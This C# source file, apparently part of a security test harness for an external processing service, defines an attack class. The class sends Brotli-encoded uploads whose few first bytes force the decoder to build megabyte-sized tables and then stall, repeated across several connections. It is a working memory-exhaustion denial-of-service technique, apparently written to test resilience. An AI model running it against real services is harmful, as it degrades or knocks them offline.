using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;
using Google.Protobuf;

namespace ExtProc.Attacks.Bodies;

/// <summary>Uploads whose few first bytes have a Brotli decoder make tables of megabytes, and then say nothing.</summary>
internal sealed class BrotliTables : Attack
{
    public override Attacker By => Attacker.Client;

    public override Config Config => Configs.Replacing;

    public override async Task RunAsync(Target target)
    {
        ByteString head = ByteString.CopyFrom(BrotliHead.Largest());
        await target.OnManyAsync(4, async peer =>
        {
            for (int i = 0; i < target.Count(30, 300) && !peer.Gone; i++)
            {
                await Uploads.SendAsync(peer, Requests.RequestHeaders(more: [("content-type", "text/plain"), ("content-encoding", "br")]), [head]);
            }
        });
        await target.HoldAsync();
    }
}
